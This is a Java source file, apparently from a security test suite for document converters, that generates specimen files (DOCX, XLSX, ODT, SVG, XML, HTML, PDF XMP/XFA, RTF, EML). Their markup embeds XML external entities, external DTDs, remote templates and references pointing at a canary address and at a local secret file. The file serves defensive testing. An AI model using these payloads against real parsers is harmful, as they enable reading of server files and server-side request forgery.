package org.twinflow.thorough;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.function.UnaryOperator;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.PDMetadata;
import org.apache.pdfbox.pdmodel.common.PDStream;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;

/** Files whose markup asks its reader to fetch an address or to let in a file of this machine. */
final class Callers {

    private final Canary canary;
    private final String secret;

    /** @param secret the address of a file that nobody may read */
    Callers(Canary canary, String secret) {
        this.canary = canary;
        this.secret = secret;
    }

    List<Specimen> files() throws IOException {
        return List.of(
                Specimen.of(
                        "xxe.docx", "entities in a DOCX", infected(Papers.docx("Hello"), "word/document.xml", "docx")),
                Specimen.of(
                        "xxe.xlsx",
                        "entities in an XLSX",
                        infected(Papers.xlsx("Hello"), "xl/sharedStrings.xml", "xlsx")),
                Specimen.of("xxe.odt", "entities in an ODT", infected(Papers.odt("Hello"), "content.xml", "odt")),
                Specimen.of("xxe.svg", "entities in an SVG", xml("svg", "svg")),
                Specimen.of("xxe.xml", "entities in XML", xml("root", "xml")),
                Specimen.of("xxe.html", "pictures, styles and frames from elsewhere", html()),
                Specimen.of("xxe-xmp.pdf", "entities in the XMP of a PDF", xmp()),
                Specimen.of("xxe-xfa.pdf", "entities in the XFA of a PDF", xfa()),
                Specimen.of("template.docx", "a DOCX with a template from elsewhere", template()),
                Specimen.of(
                        "template.rtf",
                        "an RTF with a template from elsewhere",
                        ("{\\rtf1{\\*\\template " + canary.address("rtf") + "}{\\field{\\*\\fldinst INCLUDEPICTURE \""
                                        + canary.address("rtf-field") + "\"}}Hello\\par}")
                                .getBytes(StandardCharsets.US_ASCII)),
                Specimen.of(
                        "external.eml",
                        "a mail whose body lies elsewhere",
                        ("From: a@b.example\r\nSubject: x\r\nContent-Type: message/external-body; access-type=URL; URL=\""
                                        + canary.address("eml") + "\"\r\n\r\nContent-Type: text/plain\r\n\r\n")
                                .getBytes(StandardCharsets.US_ASCII)));
    }

    private String doctype(String root, String name) {
        return "<!DOCTYPE %s SYSTEM \"%s\" [<!ENTITY %% p SYSTEM \"%s\"> %%p; <!ENTITY e SYSTEM \"%s\"><!ENTITY f SYSTEM \"%s\">]>"
                .formatted(
                        root,
                        canary.address(name + "-dtd"),
                        canary.address(name + "-parameter"),
                        canary.address(name + "-entity"),
                        secret);
    }

    private byte[] xml(String root, String name) {
        return ("<?xml version=\"1.0\"?>" + doctype(root, name) + "<" + root
                        + " xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><text>&e;&f;</text>"
                        + "<image xlink:href=\"" + canary.address(name + "-image") + "\"/></" + root + ">")
                .getBytes(StandardCharsets.UTF_8);
    }

    private byte[] html() {
        return ("<html><head><base href=\"" + canary.address("base/")
                        + "\"><link rel=\"stylesheet\" href=\"style.css\"></head>"
                        + "<body><img src=\"picture.png\"><iframe src=\"frame\"></iframe><object data=\"object\"></object></body></html>")
                .getBytes(StandardCharsets.UTF_8);
    }

    /** Puts the declarations before the root of a part, and calls the entities in its text. */
    private byte[] infected(byte[] file, String part, String name) throws IOException {
        return changed(file, part, text -> {
            var start = text.indexOf("?>") + 2;
            var root = text.substring(text.indexOf('<', start) + 1).split("[\\s>]", 2)[0];
            return text.substring(0, start)
                    + doctype(root, name)
                    + text.substring(start).replace("Hello", "Hello &e;&f;");
        });
    }

    private byte[] template() throws IOException {
        return changed(
                Papers.docx("Hello"),
                "word/_rels/document.xml.rels",
                text -> text.replace(
                        "</Relationships>",
                        "<Relationship Id=\"t1\" TargetMode=\"External\" Target=\"" + canary.address("docx-template")
                                + "\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\"/>"
                                + "<Relationship Id=\"t2\" TargetMode=\"External\" Target=\""
                                + canary.address("docx-image")
                                + "\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/image\"/>"
                                + "</Relationships>"));
    }

    private static byte[] changed(byte[] file, String part, UnaryOperator<String> change) throws IOException {
        var out = new ByteArrayOutputStream();
        var found = false;
        try (var zip = new ZipInputStream(new ByteArrayInputStream(file));
                var written = new ZipOutputStream(out)) {
            ZipEntry entry;
            while ((entry = zip.getNextEntry()) != null) {
                var bytes = zip.readAllBytes();
                if (entry.getName().equals(part)) {
                    found = true;
                    var before = new String(bytes, StandardCharsets.UTF_8);
                    var after = change.apply(before);
                    if (after.equals(before)) {
                        throw new IllegalStateException("Nothing was changed in " + part);
                    }
                    bytes = after.getBytes(StandardCharsets.UTF_8);
                }
                Papers.put(written, entry.getName(), bytes);
            }
        }
        if (!found) {
            throw new IllegalStateException("No " + part);
        }
        return out.toByteArray();
    }

    private byte[] xmp() throws IOException {
        try (var pdf = new PDDocument()) {
            pdf.addPage(new PDPage());
            var metadata = new PDMetadata(pdf);
            metadata.importXMPMetadata(
                    ("<?xpacket begin=\"\" id=\"W5M0MpCehiHzreSzNTczkc9d\"?>" + doctype("x:xmpmeta", "xmp")
                                    + "<x:xmpmeta xmlns:x=\"adobe:ns:meta/\"><rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\">"
                                    + "<rdf:Description xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:description>&e;&f;</dc:description>"
                                    + "</rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end=\"w\"?>")
                            .getBytes(StandardCharsets.UTF_8));
            pdf.getDocumentCatalog().setMetadata(metadata);
            return PdfPapers.bytes(pdf);
        }
    }

    private byte[] xfa() throws IOException {
        try (var pdf = new PDDocument()) {
            pdf.addPage(new PDPage());
            var form = new PDAcroForm(pdf);
            var content = ("<?xml version=\"1.0\"?>" + doctype("xdp:xdp", "xfa")
                            + "<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><xfa:datasets xmlns:xfa=\"http://www.xfa.org/schema/xfa-data/1.0/\">"
                            + "<xfa:data><name>&e;&f;</name></xfa:data></xfa:datasets></xdp:xdp>")
                    .getBytes(StandardCharsets.UTF_8);
            form.getCOSObject().setItem(COSName.XFA, new PDStream(pdf, new ByteArrayInputStream(content)));
            pdf.getDocumentCatalog().setAcroForm(form);
            return PdfPapers.bytes(pdf);
        }
    }
}
